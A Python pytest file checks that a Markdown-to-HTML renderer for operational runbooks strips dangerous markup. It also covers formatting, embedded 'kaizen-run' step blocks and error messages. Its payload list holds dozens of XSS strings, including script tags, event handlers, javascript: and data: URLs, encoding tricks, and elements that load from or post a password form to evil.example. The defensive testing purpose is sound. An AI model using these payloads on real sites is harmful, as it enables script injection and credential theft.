"""Runbook Markdown becomes sanitised HTML: no payload from the XSS lists survives."""

from html.parser import HTMLParser

import pytest

from departments.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_CLASSES,
    ALLOWED_TAGS,
    RunStep,
    plain_text,
    render,
    render_html,
)

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<a href="https://example.com" target="_blank" style="position:fixed;inset:0">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "![x](javascript:alert(1))",
    '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<table><td background=javascript:alert(1)>x</td></table>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<div id="x" class="toast" data-x="1" hx-get="/admin/" hx-trigger="load">x</div>',
    '<code class="language-sql x-evil">select 1</code>',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option><script>alert(1)</script></option></select>",
    "<xmp><script>alert(1)</script></xmp>",
    '<a href="http://x" rel="opener">x</a>',
]


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements_of(html: str):
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def assert_safe(html: str) -> None:
    for tag, attrs in elements_of(html):
        assert tag in ALLOWED_TAGS, f"<{tag}> survived"
        for name, value in attrs:
            value = (value or "").strip().lower()
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"class", "rel"}
            assert name in allowed, f"{name} on <{tag}> survived"
            assert not name.startswith("on")
            if name in ("href", "src"):
                scheme = value.split(":", 1)[0] if ":" in value.split("/", 1)[0] else ""
                assert scheme in ("", "http", "https", "mailto"), f"{name}={value}"
            if name == "style":
                assert all(
                    part.split(":")[0].strip() == "text-align"
                    for part in value.split(";")
                    if part.strip()
                ), value
            if name == "class":
                assert tag == "code" and value in ("", *ALLOWED_CLASSES["code"]), value
            if name == "rel":
                assert value == "noopener noreferrer"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_xss_payload_survives_rendering(payload):
    for text in (payload, f"Some text {payload} more text", f"- item\n- {payload}\n"):
        html = render_html(text)
        assert_safe(html)
        assert "<script" not in html.lower()


def test_the_checker_itself_catches_an_unsafe_document():
    with pytest.raises(AssertionError):
        assert_safe('<a href="javascript:alert(1)" onclick="x">x</a>')


def test_ordinary_markdown_keeps_its_formatting():
    html = render_html(
        "# Title\n\nSome **bold**, `code` and [a link](https://example.com/x).\n\n"
        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n```sql\nSELECT 1;\n```\n\n"
        "<details><summary>More</summary>Hidden <kbd>Ctrl</kbd></details>\n"
    )
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert '<a href="https://example.com/x" rel="noopener noreferrer">a link</a>' in html
    assert '<th style="text-align:right">a</th>' in html
    assert '<code class="language-sql">SELECT 1;\n</code>' in html
    assert "<details><summary>More</summary>" in html and "<kbd>Ctrl</kbd>" in html


def test_relative_links_to_other_kaizen_pages_stay():
    html = render_html("[Slow-query triage](/runbooks/slow-query-triage/)")
    assert 'href="/runbooks/slow-query-triage/"' in html


def test_a_kaizen_run_block_becomes_a_step_between_two_pieces_of_html():
    rendered = render(
        "Before.\n\n```kaizen-run kind=benchmark target=shop-api\n"
        "label: A gentle load test\nmode: load\nrate: 50\n# a comment\nduration = 60\n```\n\n"
        "After."
    )
    assert [part.step is not None for part in rendered.parts] == [False, True, False]
    (step,) = rendered.steps
    assert step == RunStep(
        index=1,
        kind="benchmark",
        target="shop-api",
        label="A gentle load test",
        params={"mode": "load", "rate": "50", "duration": "60"},
        source=step.source,
    )
    assert "Before." in rendered.parts[0].html and "After." in rendered.parts[2].html
    # Where steps cannot run (training, previews), the block shows as its source.
    assert "kaizen-run kind=benchmark" in rendered.html


def test_steps_in_a_list_keep_the_list_whole():
    rendered = render("1. First\n\n   ```kaizen-run kind=probe\n   ```\n2. Second\n")
    html = "".join(str(part.html) for part in rendered.parts)
    assert html.count("<li>") == 2 and html.count("</li>") == 2
    assert rendered.steps[0].kind == "probe" and rendered.steps[0].target == ""


@pytest.mark.parametrize(
    ("fence", "error"),
    [
        ("```kaizen-run kind=nuke target=x\n```", "unknown kind"),
        ("```kaizen-run kind=probe target\n```", "is not key=value"),
        ("```kaizen-run kind=probe\njust words\n```", "is not “key: value”"),
        ('```kaizen-run kind=probe label="unclosed\n```', "cannot read"),
        ("```kaizen-run kind=probe\nBad-Key: 1\n```", "not a parameter name"),
    ],
)
def test_a_malformed_step_says_what_is_wrong(fence, error):
    (step,) = render(fence).steps
    assert error in step.error


def test_text_in_the_document_cannot_pose_as_a_step():
    # The marker that stands for a step carries a secret of each rendering.
    rendered = render("<p>0-1</p>\n\nStep marker lookalikes: `-1`")
    assert rendered.steps == [] and all(part.step is None for part in rendered.parts)


def test_plain_text_drops_markup_for_summaries():
    assert plain_text("# Hi & bye\n\nSome *text* <b>x</b>") == "Hi & bye Some text x"
